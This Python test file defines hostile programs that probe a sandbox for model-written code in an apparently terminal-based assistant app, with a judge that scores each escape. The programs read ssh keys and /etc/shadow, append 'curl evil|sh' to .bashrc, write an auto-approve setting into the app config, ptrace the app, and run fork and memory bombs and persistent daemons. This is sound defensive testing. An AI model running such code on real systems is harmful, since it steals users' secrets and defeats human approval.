"""Hostile programs for the Python sandbox, each with the outcome it must have.

Every program tries something an approved model-written program must not be able to do, using
the targets of a live "user world" (``testkit.hostile_world``): a fake home with ssh keys, the
history database, config.toml and .bashrc, a tmux server, an ssh-agent-like socket, a pty the
user has open, a loopback TCP listener and an abstract Unix socket. A program prints
``ESCAPED <what>`` when an attempt succeeds and ``DONE`` when it reached its end; some also have
a check the harness runs on the host afterwards (a file left behind, a file changed). Stdlib
only: the harness imports this as an unprivileged user with the system Python.
"""

from __future__ import annotations

import hashlib
import os
from collections.abc import Callable
from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class Targets:
    """What the hostile programs aim at (paths and ids on the host)."""

    home: str
    app_pid: int
    app_dir: str
    python_prefix: str
    tcp_port: int
    tmux_socket: str
    tmux_pid: int
    agent_socket: str
    abstract_name: str
    pty_path: str
    token: str
    secret: str
    memory_mb: int
    shm_key: int = 0
    """A System V shared memory segment of the user's (0: none)."""
    digests: dict[str, str] = field(default_factory=dict)
    """sha256 of the home's files before the suite, to notice any change."""

    @property
    def ssh_key(self) -> str:
        return os.path.join(self.home, ".ssh", "id_rsa")

    @property
    def history_db(self) -> str:
        return os.path.join(self.home, ".local", "share", "internlm-tui", "history.sqlite3")

    @property
    def config(self) -> str:
        return os.path.join(self.home, ".config", "internlm-tui", "config.toml")

    @property
    def bashrc(self) -> str:
        return os.path.join(self.home, ".bashrc")


PRELUDE = """\
import ctypes, os, re, signal, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def attempt(what, fn):
    try:
        got = fn()
    except (OSError, MemoryError) as exc:
        print("blocked", what, type(exc).__name__, exc)
        return None
    print("ESCAPED", what, repr(got)[:80])
    return got
def unix_connect(path):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    s.connect(path)
    return "connected"
def failing(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
"""


@dataclass(frozen=True, slots=True)
class Hostile:
    """One hostile program: its code (given the targets) and an optional host-side check."""

    name: str
    body: Callable[[Targets], str]
    after: Callable[[Targets], str] | None = None
    """Returns what escaped ("" if nothing), run on the host after the program ended."""

    def code(self, targets: Targets) -> str:
        """The complete program."""
        return PRELUDE + self.body(targets) + '\nprint("DONE")\n'


def sha256(path: str) -> str:
    """The file's digest, or "" when it cannot be read."""
    try:
        with open(path, "rb") as handle:
            return hashlib.sha256(handle.read()).hexdigest()
    except OSError:
        return ""


def home_digests(home: str) -> dict[str, str]:
    """Digests of every regular file under ``home``."""
    found: dict[str, str] = {}
    for folder, _dirs, files in os.walk(home):
        for name in files:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not os.path.islink(path):
                found[path] = sha256(path)
    return found


def _home_unchanged(t: Targets) -> str:
    now = home_digests(t.home)
    changed = sorted(p for p in set(now) | set(t.digests) if now.get(p) != t.digests.get(p))
    return f"home changed: {changed}" if changed else ""


def _absent(*paths: Callable[[Targets], str]) -> Callable[[Targets], str]:
    def check(t: Targets) -> str:
        left = [p(t) for p in paths if os.path.lexists(p(t))]
        for path in left:
            os.remove(path)
        return f"left behind on the host: {left}" if left else ""

    return check


def _marker(folder: str) -> Callable[[Targets], str]:
    return lambda t: os.path.join(folder, f"internlm-tui-hostile-{t.token}")


def _read(path: Callable[[Targets], str]) -> Callable[[Targets], str]:
    return lambda t: f"attempt('read {os.path.basename(path(t))}', lambda: open({path(t)!r}, 'rb').read(64))"


def _fork_bomb(t: Targets) -> str:
    return """\
n = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as exc:
        print("blocked fork", exc.errno)
        break
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    n += 1
print("forks", n)
if n > 32:
    print("ESCAPED fork bomb", n)
"""


def _memory_children(t: Targets) -> str:
    return f"""\
kids = 0
for _ in range(4):
    r, w = os.pipe()
    try:
        pid = os.fork()
    except OSError as exc:
        print("blocked fork", exc.errno)
        break
    if pid == 0:
        try:
            block = bytearray(400 * 1024 * 1024)
            os.write(w, b"1")
            time.sleep(20)
        finally:
            os._exit(0)
    os.close(w)
    if os.read(r, 1) == b"1":
        kids += 1
print("children holding 400 MB:", kids)
if kids * 400 > {t.memory_mb}:
    print("ESCAPED memory", kids * 400, "MB held at once")
"""


def _thread_bomb(t: Targets) -> str:
    return """\
import threading
n = 0
try:
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
        n += 1
except RuntimeError as exc:
    print("blocked thread", exc)
print("threads", n)
if n > 100:
    print("ESCAPED thread bomb", n)
"""


def _raw_clone(t: Targets) -> str:
    return """\
import platform
nr = {"x86_64": 56, "aarch64": 220}.get(platform.machine())
libc.syscall.restype = ctypes.c_long
def clone():
    pid = libc.syscall(nr, 17, 0, 0, 0, 0)  # SIGCHLD: a child process, not a thread
    if pid == 0:
        os._exit(0)
    failing(0 if pid > 0 else -1)
    return pid
def clone3():
    args = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)
    pid = libc.syscall(435, ctypes.byref(args), ctypes.sizeof(args))
    if pid == 0:
        os._exit(0)
    failing(0 if pid > 0 else -1)
    return pid
attempt("clone a process", clone)
attempt("clone3 a process", clone3)
attempt("posix_spawn", lambda: os.posix_spawn("/usr/bin/true", ["true"], {}))
"""


def _daemon(t: Targets) -> str:
    marker = _marker("/tmp")(t) + "-daemon"
    return f"""\
def daemonize():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3)
            open({marker!r}, "w").write("alive")
            os._exit(0)
        os._exit(0)
    return "forked"
attempt("double fork into a daemon", daemonize)
"""


def _fill(folder: str, limit_mb: int) -> Callable[[Targets], str]:
    return lambda t: (
        f"""\
written = 0
try:
    for i in range(64):
        with open(f"{folder}/fill{{i}}", "wb") as f:
            f.write(b"x" * (8 * 1024 * 1024))
        written += 8
except OSError as exc:
    print("blocked fill", exc.errno)
print("wrote", written, "MB")
if written > {limit_mb}:
    print("ESCAPED filled", written, "MB of {folder}")
"""
    )


def _proc_view(t: Targets) -> str:
    return f"""\
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("pids", pids)
if len(pids) > 4 or {str(t.app_pid)!r} in pids or {str(t.tmux_pid)!r} in pids:
    print("ESCAPED sees host processes", len(pids))
attempt("signal 0 to the app", lambda: os.kill({t.app_pid}, 0))
"""


def _ptrace(t: Targets) -> str:
    return f"""\
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
attempt("ptrace attach the app", lambda: failing(libc.ptrace(16, {t.app_pid}, None, None)))
attempt("ptrace attach tmux", lambda: failing(libc.ptrace(16, {t.tmux_pid}, None, None)))
attempt("process_vm_readv on the app", lambda: open("/proc/{t.app_pid}/mem", "rb").read(1))
"""


def _env(t: Targets) -> str:
    return f"""\
text = repr(sorted(os.environ.items()))
print(text)
if {t.secret!r} in text or "OPENAI_API_KEY" in text:
    print("ESCAPED secret in the environment")
if {t.home!r} in text:
    print("ESCAPED the user's home in the environment")
for key in ("SSH_AUTH_SOCK", "TMUX", "DISPLAY", "DBUS_SESSION_BUS_ADDRESS", "XDG_RUNTIME_DIR"):
    if key in os.environ:
        print("ESCAPED", key, "in the environment")
"""


def _devices(t: Targets) -> str:
    return """\
allowed = {"null", "zero", "full", "random", "urandom", "shm", "fd", "stdin", "stdout", "stderr"}
extra = sorted(set(os.listdir("/dev")) - allowed)
print("dev", sorted(os.listdir("/dev")))
if extra:
    print("ESCAPED devices", extra)
"""


def _interfaces(t: Targets) -> str:
    return """\
names = [name for _, name in socket.if_nameindex()]
print("interfaces", names)
if set(names) - {"lo"}:
    print("ESCAPED network interfaces", names)
"""


def _kill_all(t: Targets) -> str:
    return f"""\
attempt("SIGTERM the app", lambda: os.kill({t.app_pid}, signal.SIGTERM))
attempt("SIGKILL tmux", lambda: os.kill({t.tmux_pid}, signal.SIGKILL))
try:
    os.kill(-1, signal.SIGKILL)  # every process it may signal (inside: its own namespace)
except OSError as exc:
    print("kill -1", exc)
"""


def _tmux_alive(t: Targets) -> str:
    try:
        os.kill(t.tmux_pid, 0)
    except OSError:
        return "the user's tmux server was killed"
    return ""


KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}
"""``add_key`` and ``keyctl`` system call numbers where the keyring program runs."""


def _keyring(t: Targets) -> str:
    return f"""\
import platform, re
nr = {KEYCTL!r}.get(platform.machine(), (None, None))[1]
libc.syscall.restype = ctypes.c_long
def read_key(kid):
    buf = ctypes.create_string_buffer(256)
    n = libc.syscall(nr, 11, ctypes.c_long(kid), buf, 256)
    failing(0 if n >= 0 else -1)
    if {t.secret!r}.encode() not in buf.raw[: max(n, 0)]:
        raise OSError("not the secret")
    return "read the secret"
def search(ring):
    kid = libc.syscall(nr, 10, ctypes.c_long(ring), b"user", {t.token.encode()!r}, 0)
    failing(0 if kid > 0 else -1)
    return read_key(kid)
if nr is None:
    print("blocked keyctl: unknown machine")
else:
    for ring in (-3, -4, -5):
        attempt(f"search keyring {{ring}}", lambda: search(ring))
    try:
        ids = [int(line.split()[0], 16) for line in open("/proc/keys") if {t.token!r} in line]
    except OSError as exc:
        ids = []
        print("blocked /proc/keys", exc)
    for kid in ids:
        attempt(f"read key {{kid}} by id", lambda: read_key(kid))
"""


def _inherited_fds(t: Targets) -> str:
    return """\
for fd in range(3, 256):
    try:
        data = os.pread(fd, 64, 0)
    except OSError:
        continue
    print("open fd", fd)
    if b"PRIVATE KEY" in data:
        print("ESCAPED read the ssh key through inherited fd", fd)
"""


def _sysv_shm(t: Targets) -> str:
    return f"""\
libc.shmget.restype = ctypes.c_int
attempt("attach the user's shared memory", lambda: failing(0 if libc.shmget({t.shm_key}, 0, 0) >= 0 else -1))
"""


def _syscalls(t: Targets) -> str:
    return """\
attempt("setuid(0)", lambda: os.setuid(0))
attempt("unshare a user namespace", lambda: failing(libc.unshare(0x10000000)))
attempt("mount a tmpfs", lambda: failing(libc.mount(b"none", b"/sandbox", b"tmpfs", 0, None)))
attempt("chroot", lambda: os.chroot("/tmp"))
status = open("/proc/self/status").read()
if "NoNewPrivs:\t1" not in status:
    print("ESCAPED no_new_privs is not set")
if "CapEff:\t0000000000000000" not in status:
    print("ESCAPED has capabilities", re.findall("CapEff.*", status))
"""


HOSTILE: tuple[Hostile, ...] = (
    Hostile("read_ssh_key", _read(lambda t: t.ssh_key)),
    Hostile("read_history_db", _read(lambda t: t.history_db)),
    Hostile("read_config", _read(lambda t: t.config)),
    Hostile("list_home", lambda t: f"attempt('list the home', lambda: os.listdir({t.home!r}))"),
    Hostile(
        "append_bashrc",
        lambda t: f"attempt('append to .bashrc', lambda: open({t.bashrc!r}, 'a').write('curl evil|sh\\n'))",
        _home_unchanged,
    ),
    Hostile(
        "config_approve_auto",
        lambda t: f"attempt('auto-approve', lambda: open({t.config!r}, 'a').write('approve = \"auto\"\\n'))",
        _home_unchanged,
    ),
    Hostile(
        "write_new_home_file",
        lambda t: f"attempt('create ~/.profile', lambda: open({os.path.join(t.home, '.profile')!r}, 'w'))",
        _absent(lambda t: os.path.join(t.home, ".profile")),
    ),
    Hostile(
        "tmp_file_outlives",
        lambda t: f"open({_marker('/tmp')(t)!r}, 'w').write('x')",
        _absent(_marker("/tmp")),
    ),
    Hostile(
        "var_tmp_file_outlives",
        lambda t: f"open({_marker('/var/tmp')(t)!r}, 'w').write('x')",
        _absent(_marker("/var/tmp")),
    ),
    Hostile(
        "dev_shm_file_outlives",
        lambda t: f"open({_marker('/dev/shm')(t)!r}, 'w').write('x')",
        _absent(_marker("/dev/shm")),
    ),
    Hostile("tmux_socket", lambda t: f"attempt('connect to tmux', lambda: unix_connect({t.tmux_socket!r}))"),
    Hostile(
        "tmux_command",
        lambda t: (
            "import subprocess\n"
            f"attempt('tmux new-window', lambda: subprocess.run(['tmux', '-S', {t.tmux_socket!r}, "
            f"'new-window', 'touch {_marker('/tmp')(t)}-tmux'], check=True, timeout=5))"
        ),
        _absent(lambda t: _marker("/tmp")(t) + "-tmux"),
    ),
    Hostile(
        "ssh_agent_socket",
        lambda t: f"attempt('connect to the agent socket', lambda: unix_connect({t.agent_socket!r}))",
    ),
    Hostile(
        "abstract_socket",
        lambda t: (
            f"attempt('connect to an abstract socket', lambda: unix_connect({chr(0) + t.abstract_name!r}))"
        ),
    ),
    Hostile(
        "tcp_loopback",
        lambda t: (
            f"attempt('connect to 127.0.0.1:{t.tcp_port}', "
            f"lambda: socket.create_connection(('127.0.0.1', {t.tcp_port}), timeout=2))"
        ),
    ),
    Hostile("network_interfaces", _interfaces),
    Hostile(
        "open_user_pty", lambda t: f"attempt('open the pty', lambda: os.open({t.pty_path!r}, os.O_RDWR))"
    ),
    Hostile("open_dev_tty", lambda t: "attempt('open /dev/tty', lambda: os.open('/dev/tty', os.O_RDWR))"),
    Hostile("open_ptmx", lambda t: "attempt('open /dev/ptmx', lambda: os.openpty())"),
    Hostile("devices", _devices),
    Hostile("host_pids", _proc_view),
    Hostile("ptrace_app", _ptrace),
    Hostile(
        "app_environ",
        lambda t: f"attempt('read the app environ', lambda: open('/proc/{t.app_pid}/environ', 'rb').read())",
    ),
    Hostile("environment", _env),
    Hostile("kill_everything", _kill_all, _tmux_alive),
    Hostile("fork_bomb", _fork_bomb),
    Hostile("thread_bomb", _thread_bomb),
    Hostile("raw_clone", _raw_clone),
    Hostile("memory_children", _memory_children),
    Hostile("memory_one_block", lambda t: "attempt('allocate 2 GB', lambda: len(bytearray(2 * 1024**3)))"),
    Hostile("daemon_survives", _daemon, _absent(lambda t: _marker("/tmp")(t) + "-daemon")),
    Hostile("tmpfs_fill", _fill("/tmp", 100)),
    Hostile("disk_fill", _fill(".", 200)),
    Hostile("privilege_syscalls", _syscalls),
    Hostile("session_keyring", _keyring),
    Hostile("inherited_fds", _inherited_fds),
    Hostile("sysv_shared_memory", _sysv_shm),
    Hostile(
        "write_system_paths",
        lambda t: (
            "attempt('write /usr', lambda: open('/usr/lib/internlm-tui-hostile', 'w'))\n"
            f"attempt('write the Python prefix', "
            f"lambda: open({os.path.join(t.python_prefix, 'hostile')!r}, 'w'))"
        ),
    ),
    Hostile(
        "read_system_secrets",
        lambda t: (
            "attempt('read /etc/passwd', lambda: open('/etc/passwd').read(64))\n"
            "attempt('read /etc/shadow', lambda: open('/etc/shadow').read(64))\n"
            "attempt('list /root', lambda: os.listdir('/root'))\n"
            "attempt('list /home', lambda: os.listdir('/home'))"
        ),
    ),
    Hostile(
        "read_app_source", lambda t: f"attempt('list the app folder', lambda: os.listdir({t.app_dir!r}))"
    ),
    Hostile(
        "kernel_knobs",
        lambda t: (
            "attempt('write a sysctl', lambda: open('/proc/sys/kernel/hostname', 'w').write('x'))\n"
            "attempt('list /sys', lambda: os.listdir('/sys/fs/cgroup'))"
        ),
    ),
)
"""The suite, in the order it runs (the program that kills everything it can runs late)."""

ESCAPE_UNISOLATED = (
    "read_ssh_key",
    "read_history_db",
    "read_config",
    "list_home",
    "tmp_file_outlives",
    "tmux_socket",
    "ssh_agent_socket",
    "open_user_pty",
    "read_app_source",
)
"""Programs that must escape when run without isolation: proof the checks can fail."""


def judge(hostile: Hostile, output: str, targets: Targets) -> str:
    """What escaped ("" when the program was contained): an ESCAPED line, no DONE, a host check."""
    escaped = [line for line in output.splitlines() if line.startswith("ESCAPED")]
    if escaped:
        return "; ".join(escaped)
    if "DONE" not in output.splitlines():
        return f"did not reach its end: {output[-300:]!r}"
    return hostile.after(targets) if hostile.after else ""
